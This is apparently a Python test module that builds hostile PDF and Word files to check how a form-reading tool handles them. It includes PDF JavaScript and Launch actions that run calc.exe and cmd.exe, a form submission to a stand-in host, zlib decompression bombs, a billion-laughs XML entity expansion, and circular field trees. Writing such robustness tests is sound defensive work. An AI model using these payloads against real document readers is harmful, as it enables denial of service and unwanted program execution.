"""Files that mean harm to whoever loads them as a form, and what loading each of them costs.

`python -m tests.documents.forms.hostile FOLDER` reads and fills each in one program, and prints
for each its seconds, the memory at the peak, and what was said.
"""

from __future__ import annotations

import io
import json
import sys
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from cpdesk.documents.forms.filling import fill
from cpdesk.documents.forms.reading import read_form
from cpdesk.domain.findings import Refusal
from tests.documents.forms.cases import facts_of, shop
from tests.documents.forms.making import Maker


def saved(document: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    document.save(out, compress_streams=False)
    return out.getvalue()


def named_form() -> pikepdf.Pdf:
    maker = Maker()
    maker.say(50, 700, "Name of company")
    maker.text("a", 200, 696, 200)
    return pikepdf.open(io.BytesIO(maker.finish()))


def scripts_everywhere() -> bytes:
    document = named_form()
    script = Dictionary(S=Name.JavaScript, JS=String("app.launchURL('http://x.example')"))
    launch = Dictionary(S=Name.Launch, F=String("calc.exe"), Win=Dictionary(F=String("cmd.exe")))
    document.Root.OpenAction = script
    document.Root.AA = Dictionary(WC=script)
    document.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("x"), script])),
        EmbeddedFiles=Dictionary(Names=Array()),
    )
    page = document.pages[0].obj
    page.AA = Dictionary(O=launch)
    page.Annots[0].A = launch
    page.Annots[0].AA = Dictionary(K=script, F=script)
    page.Annots.append(Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 500, 800]), A=Dictionary(
            S=Name.SubmitForm, F=String("http://x.example")),
    ))  # fmt: skip
    page.Annots.append(Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]),
        FS=Dictionary(EF=Dictionary(F=document.make_stream(b"MZ"))),
    ))  # fmt: skip
    return saved(document)


def thousands_of_fields() -> bytes:
    document = pikepdf.new()
    page = document.add_blank_page(page_size=(595, 842)).obj
    kids = [
        document.make_indirect(Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String(f"f{n}"),
            Rect=Array([n % 500, n % 800, n % 500 + 20, n % 800 + 12]),
        ))
        for n in range(30_000)
    ]  # fmt: skip
    page.Annots = Array(kids)
    document.Root.AcroForm = Dictionary(Fields=Array(kids))
    return saved(document)


def parents_in_a_circle() -> bytes:
    document = named_form()
    one = document.make_indirect(Dictionary(T=String("x")))
    two = document.make_indirect(Dictionary(T=String("y"), Parent=one, Kids=Array([one])))
    one.Parent, one.Kids = two, Array([two, two, one])
    field = document.Root.AcroForm.Fields[0]
    field.Parent = one
    one.Kids.append(field)
    document.Root.AcroForm.Fields.append(one)
    return saved(document)


def a_chain_of_fields() -> bytes:
    document = named_form()
    last = document.Root.AcroForm.Fields[0]
    for at in range(5000):
        last = document.make_indirect(Dictionary(T=String(f"n{at}"), Kids=Array([last])))
    document.Root.AcroForm.Fields = Array([last])
    return saved(document)


def pages_in_a_circle() -> bytes:
    return saved(named_form()).replace(b"/Type /Pages", b"/Type /Pages /Kids [1 0 R 1 0 R]")


def a_huge_page() -> bytes:
    document = named_form()
    document.pages[0].obj.MediaBox = Array([0, 0, 2_000_000, 2_000_000])
    return saved(document)


def a_box_of_no_size() -> bytes:
    document = named_form()
    widget = document.pages[0].Annots[0]
    widget.Rect = Array([String("a"), 1e30, -1e30, Name.X])
    return saved(document)


def a_bomb_of_content() -> bytes:
    document = pikepdf.new()
    page = document.add_blank_page(page_size=(595, 842)).obj
    packed = zlib.compress(b"0 0 m 9 9 l S " * 30_000_000, 9)
    page.Contents = pikepdf.Stream(document, packed)
    page.Contents.Filter = Name.FlateDecode
    return saved(document)


def a_bomb_of_pixels() -> bytes:
    document = pikepdf.new()
    page = document.add_blank_page(page_size=(595, 842)).obj
    packed = zlib.compress(bytes(30_000 * 30_000 // 8), 9)
    picture = pikepdf.Stream(
        document, packed, Type=Name.XObject, Subtype=Name.Image, Width=30_000, Height=30_000,
        ColorSpace=Name.DeviceGray, BitsPerComponent=1,
    )  # fmt: skip
    picture.Filter = Name.FlateDecode
    page.Resources = Dictionary(XObject=Dictionary(X=picture))
    page.Contents = document.make_stream(b"595 0 0 842 0 0 cm /X Do")
    return saved(document)


def a_bomb_of_colours() -> bytes:
    """Of 1.2 GB, in pieces: who makes it has no more memory than who reads it."""
    document, packer = pikepdf.new(), zlib.compressobj(9)
    page = document.add_blank_page(page_size=(595, 842)).obj
    packed = b"".join(packer.compress(bytes(60_000)) for _ in range(20_000)) + packer.flush()
    picture = pikepdf.Stream(
        document, packed, Type=Name.XObject, Subtype=Name.Image, Width=20_000, Height=20_000,
        ColorSpace=Name.DeviceRGB, BitsPerComponent=8,
    )  # fmt: skip
    picture.Filter = Name.FlateDecode
    page.Resources = Dictionary(XObject=Dictionary(X=picture))
    page.Contents = document.make_stream(b"595 0 0 842 0 0 cm /X Do")
    return saved(document)


def a_word_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("word/document.xml", b" " * 400_000_000)
    return out.getvalue()


def a_word_of_billions() -> bytes:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    text = f'<!DOCTYPE x [<!ENTITY e0 "ha">{entities}]><x>&e11;</x>'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("word/document.xml", text)
    return out.getvalue()


HOSTILE: dict[str, Callable[[], bytes]] = {
    each.__name__: each for each in (
        scripts_everywhere, thousands_of_fields, parents_in_a_circle, a_chain_of_fields,
        pages_in_a_circle, a_huge_page, a_box_of_no_size, a_bomb_of_content, a_bomb_of_pixels,
        a_bomb_of_colours, a_word_bomb, a_word_of_billions,
    )
}  # fmt: skip


def _peak() -> int:
    """The most memory that this program has had, in MiB."""
    lines = Path("/proc/self/status").read_text(encoding="ascii").splitlines()
    return next(int(each.split()[1]) for each in lines if each.startswith("VmHWM")) // 1024


def main(folder: Path) -> None:
    facts = facts_of(shop())
    told = {}
    for path in sorted(folder.iterdir()):
        begin = time.perf_counter()
        try:
            form = read_form(path)
            said = [each.code for each in form.findings]
            if path.suffix == ".pdf":
                fill(path, form, (), facts)
        except Refusal as refusal:
            said = [refusal.finding.code]
        peak = _peak()
        told[path.stem] = {"seconds": time.perf_counter() - begin, "peak": peak, "said": said}
    print(json.dumps(told))


if __name__ == "__main__":
    main(Path(sys.argv[1]))
